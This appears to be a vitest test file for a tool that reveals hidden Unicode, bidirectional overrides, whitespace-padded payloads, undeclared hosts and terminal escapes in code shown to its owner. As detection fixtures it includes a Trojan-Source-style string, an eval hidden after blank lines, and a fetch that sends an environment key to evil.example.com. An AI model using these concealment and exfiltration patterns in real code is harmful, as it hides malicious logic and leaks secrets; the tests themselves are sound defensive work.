import { describe, expect, it } from 'vitest';
import { analyseCode } from '../../main/core/codeReport.ts';
import { toCodeLines, toSegments, toVisibleText } from '../../main/core/display.ts';
import { parseHostRule } from '../../main/core/host.ts';

const points = (...codes: readonly number[]): readonly string[] => codes.map((code) => String.fromCodePoint(code));
const range = (first: number, last: number): readonly string[] =>
  points(...Array.from({ length: last - first + 1 }, (_, index) => first + index));
const label = (character: string): string =>
  `⟦U+${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}⟧`;

const bidi = [...range(0x202a, 0x202e), ...range(0x2066, 0x2069), ...points(0x200e, 0x200f, 0x061c)];
const invisible = [
  ...range(0x200b, 0x200d),
  ...points(0xfeff, 0x00ad, 0x2028, 0x2029, 0x2060, 0x180e, 0x034f, 0x115f, 0x1160, 0x3164, 0xffa0, 0x2800, 0x1d173),
  ...range(0xe0000, 0xe007f),
  ...range(0xfe00, 0xfe0f),
  ...range(0xe0100, 0xe01ef),
  ...range(0xfff9, 0xfffc),
];
const controls = [...range(0x00, 0x08), ...range(0x0b, 0x1f), ...range(0x7f, 0x9f)];
const oddSpaces = points(0x00a0, 0x1680, 0x2003, 0x2009, 0x202f, 0x205f, 0x3000);
const halves = ['\ud800', '\udc00'];

describe('M: what the owner reads', () => {
  it('M209 direction overrides in code show as marks and in the report', () => {
    for (const character of bidi) {
      expect(toVisibleText(`a${character}b`, { multiline: true })).toBe(`a${label(character)}b`);
    }
    const code = 'if (role !== "user\u202e \u2066// admin\u2069 \u2066") {}';
    const report = analyseCode(code, 'deno', { secrets: [], hosts: [] });
    expect(report.hiddenCharacters).toBe(4);
    expect(report.findings).toContainEqual({ severity: 'warn', text: 'Holds 4 characters that cannot be seen.' });
  });

  it('M210 every unseen character is a mark, in one line and in several, astral ones too', () => {
    for (const character of [...invisible, ...controls, ...oddSpaces, ...halves]) {
      for (const multiline of [true, false]) {
        expect(toVisibleText(`a${character}b`, { multiline })).toBe(`a${label(character)}b`);
      }
    }
  });

  it('M211 no field has a way around: a host, a name and a reason all go through the one function', () => {
    for (const text of [
      'SECRET\u200b_KEY',
      'bot\u202ename',
      'api.openai.com\u2066',
      'because\u00ad',
      'https://x/\u{e0061}',
    ]) {
      expect(toSegments(text).some((segment) => segment.kind === 'mark')).toBe(true);
    }
    // A host is not only shown but refused.
    expect(() => parseHostRule('api.openai\u200b.com')).toThrow();
  });

  it('M212 blank lines and spaces before a payload are counted, and the payload is shown', () => {
    const blankLines = `start();${'\n'.repeat(501)}payload();`;
    expect(toVisibleText(blankLines, { multiline: true })).toBe('start();\n⟦500 blank lines⟧\npayload();');
    const lines = toCodeLines(blankLines);
    expect(lines).toHaveLength(502);
    expect(lines[1]).toEqual([{ kind: 'mark', text: '500 blank lines', title: 'a long stretch of blank lines' }]);
    expect(lines[501]).toEqual([{ kind: 'text', text: 'payload();' }]);
    expect(toVisibleText(`start();${' '.repeat(10_000)}payload();`)).toBe('start();⟦10000 spaces⟧payload();');
    const report = analyseCode(`${blankLines}\n${' '.repeat(5000)}eval(x)`, 'deno', { secrets: [], hosts: [] });
    expect(report.blankRuns).toBe(2);
    expect(report.longestLine).toBe(5007);
    expect(report.dynamicCode).toEqual([{ line: 503, what: 'eval' }]);
  });

  it('M213 code is never shortened: every line of the longest code is there', () => {
    const code = Array.from({ length: 10_000 }, (_, index) => `line(${index});`).join('\n');
    expect(
      toCodeLines(code)
        .map((line) => line.map((segment) => segment.text).join(''))
        .join('\n'),
    ).toBe(code);
  });

  it('M214 markup is text like any other', () => {
    const markup = '<b>x</b></pre><a href="https://evil.example">y</a> &lt; *z* _u_ ``` [a](b)';
    expect(toSegments(markup)).toEqual([{ kind: 'text', text: markup }]);
  });

  it('M215 a shortened text says so', () => {
    expect(toVisibleText('x'.repeat(5000), { maxChars: 4000 })).toMatch(/⟦… 1000 more characters⟧$/);
  });

  it('a stack of accents cannot cover its neighbours', () => {
    expect(toVisibleText(`System${'\u0301'.repeat(60)}`)).toBe(`System${'\u0301'.repeat(4)}⟦56 combining marks⟧`);
  });

  it('M220 the facts come from the code, whatever its comments claim', () => {
    const code =
      '// This only reads https://api.good.example.com\nawait fetch("https://evil.example.com/" + Deno.env.get("KEY"));';
    const report = analyseCode(code, 'deno', { secrets: [], hosts: [parseHostRule('api.good.example.com')] });
    expect(report.hostsSeen).toEqual(['evil.example.com']);
    expect(report.hostsUndeclared).toEqual(['evil.example.com']);
    expect(report.secretsUndeclared).toEqual(['KEY']);
  });

  it('M221 a title with line breaks stays one capped line', () => {
    const title = toVisibleText(`Approve?\n\n${'x'.repeat(10_240)}`, { maxChars: 100 });
    expect(title).not.toContain('\n');
    expect(title.length).toBeLessThan(160);
  });

  it('M222 terminal sequences lose their escape character', () => {
    const hostile = '\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u009b31m';
    expect(toVisibleText(hostile, { multiline: true })).not.toMatch(/\p{Cc}/u);
  });

  // M218 (link previews) is up to the Telegram channel, which sends URLs as code.
});
